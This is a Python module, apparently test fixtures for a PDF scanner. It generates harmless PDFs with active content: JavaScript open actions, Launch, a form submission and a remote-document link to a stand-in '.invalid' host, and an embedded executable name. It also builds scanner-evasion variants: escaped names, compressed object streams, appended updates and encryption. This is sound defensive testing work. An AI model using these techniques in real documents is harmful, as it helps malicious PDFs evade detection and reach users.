"""PDF documents that do more than show a page (ISO 32000-2).

What they ask a viewer to do is harmless where a viewer does it: a message, a host that does not
exist, a program that nobody has.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Mapping, Sequence
from types import MappingProxyType

PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] /Resources << >> %s>>"
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\('gauntlet'\\)) >>"
FILE = b"<< /Type /Filespec /F (gauntlet.exe) /EF << /F 4 0 R >> >>"


def pdf(
    catalog: bytes = b"", page: bytes = b"", trailer: bytes = b"", more: Sequence[bytes] = ()
) -> bytes:
    """Return one empty page with further entries in its dictionaries, and further objects."""
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        PAGES,
        PAGE % page,
        *more,
    )
    out, table = bytearray(b"%PDF-1.7\n"), [b"0000000000 65535 f \n"]
    for number, body in enumerate(objects, start=1):
        table.append(b"%010d 00000 n \n" % len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), len(table)
    out += b"xref\n0 %d\n" % size + b"".join(table)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (size, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def packed(catalog: bytes) -> bytes:
    """Return a document whose catalogue is in a compressed stream of objects (section 7.5.7)."""
    held = (b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", PAGES, PAGE % b"")
    starts = [sum(len(body) + 1 for body in held[:n]) for n in range(len(held))]
    index = b" ".join(b"%d %d" % pair for pair in enumerate(starts, start=1)) + b" "
    out = b"%PDF-1.7\n"
    at = len(out)
    options = b"/Type /ObjStm /N %d /First %d" % (len(held), len(index))
    out += _stream(4, options, index + b"\n".join(held) + b"\n")
    start = len(out)
    # Type, place or stream, generation or index: 0 is free, 1 lies in the file, 2 in a stream.
    rows = [(0, 0, 255), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, at, 0), (1, start, 0)]
    options = b"/Type /XRef /Size %d /W [1 4 1] /Root 1 0 R" % len(rows)
    out += _stream(5, options, b"".join(struct.pack(">BIB", *row) for row in rows))
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def _stream(number: int, options: bytes, data: bytes) -> bytes:
    small = zlib.compress(data)
    head = b"%d 0 obj\n<< %s /Filter /FlateDecode /Length %d >>\n" % (number, options, len(small))
    return head + b"stream\n" + small + b"\nendstream\nendobj\n"


def updated(catalog: bytes) -> bytes:
    """Return an honest document with another catalogue appended to it (section 7.5.6)."""
    first = pdf()
    at = len(first)
    body = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R %s >>\nendobj\n" % catalog
    before = first.rindex(b"startxref\n") + len(b"startxref\n")
    told = first[before:].split(b"\n")[0]
    table = b"xref\n1 1\n%010d 00000 n \n" % at
    trailer = b"trailer\n<< /Size 4 /Root 1 0 R /Prev %s >>\n" % told
    return first + body + table + trailer + b"startxref\n%d\n%%%%EOF\n" % (at + len(body))


def stream(data: bytes) -> bytes:
    """Return an object that holds *data* as it is."""
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)


ACTING: Mapping[str, bytes] = MappingProxyType(
    {
        "open-action": pdf(catalog=b"/OpenAction " + SCRIPT),
        "named-script": pdf(catalog=b"/Names << /JavaScript << /Names [(a) %s] >> >>" % SCRIPT),
        "page-action": pdf(page=b"/AA << /O %s >> " % SCRIPT),
        "chained-action": pdf(
            catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next %s >>" % SCRIPT
        ),
        # a name may be spelled with escapes; who searches the bytes for it finds nothing
        "spelled-name": pdf(
            catalog=SCRIPT.replace(b"/JavaScript", b"/J#61vaScript").join((b"/#4fpenAction ", b""))
        ),
        "launch": pdf(catalog=b"/OpenAction << /S /Launch /F (gauntlet-no-such-program) >>"),
        "submit-form": pdf(
            catalog=b"/OpenAction << /S /SubmitForm /F (http://gauntlet-egress.invalid/) >>"
        ),
        "remote-document": pdf(
            catalog=b"/OpenAction << /S /GoToR /D [0 /Fit] "
            b"/F (\\\\\\\\gauntlet-egress.invalid\\\\a) >>"
        ),
        "import-data": pdf(catalog=b"/OpenAction << /S /ImportData /F (gauntlet.fdf) >>"),
        "form-of-xml": pdf(
            catalog=b"/AcroForm << /XFA 4 0 R /Fields [] >>", more=(stream(b"<a/>"),)
        ),
        # an honest document, until the last update is read
        "updated-action": updated(b"/OpenAction " + SCRIPT),
        "embedded-file": pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(a) %s] >> >>" % FILE,
            more=(stream(b"gauntlet"),),
        ),
        # the same that no search of the raw bytes can see
        "packed-action": packed(b"/OpenAction " + SCRIPT),
        # nobody can look behind it, a scanner neither
        "encrypted": pdf(
            trailer=b"/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 "
            b"/O <%s> /U <%s> >> " % (b"00" * 32, b"00" * 32)
        ),
    }
)
"""By variant: a document that acts, that carries another file, or that cannot be looked into."""
